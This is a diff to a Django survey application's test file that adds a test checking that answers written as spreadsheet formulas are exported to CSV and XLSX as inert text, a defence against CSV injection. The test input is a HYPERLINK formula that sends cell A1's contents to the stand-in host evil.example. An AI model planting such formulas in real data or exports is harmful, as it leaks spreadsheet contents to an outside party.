@@ -166,6 +166,21 @@ def test_results_page_and_exports_carry_the_same_figures(client, personas):
     assert ["1. Довольны ли вы питанием?", "ответили", "3", "—"] in lines
 
 
+def test_a_free_text_answer_written_as_a_formula_is_exported_as_text(client, personas):
+    """CSV injection: a citizen's answer must not become a live formula in the analyst's Excel."""
+    survey = make_poll(personas.ministry)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
+    answer(survey, "Да", ["Сайт"], 5, formula)
+    client.force_login(personas.analyst)
+    text = client.get(f"/staff/surveys/{survey.pk}/results/?format=csv").content.decode("utf-8-sig")
+    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
+    assert "'" + formula in cells and formula not in cells
+    xlsx = client.get(f"/staff/surveys/{survey.pk}/results/?format=xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx.content))["Свободные ответы"]
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == formula)
+    assert cell.data_type == "s"
+
+
 def test_staff_of_another_organization_get_404_and_change_nothing(client, personas):
     survey = make_poll(personas.body_a)
     client.force_login(make_staff(personas.body_b, Role.COORDINATOR))
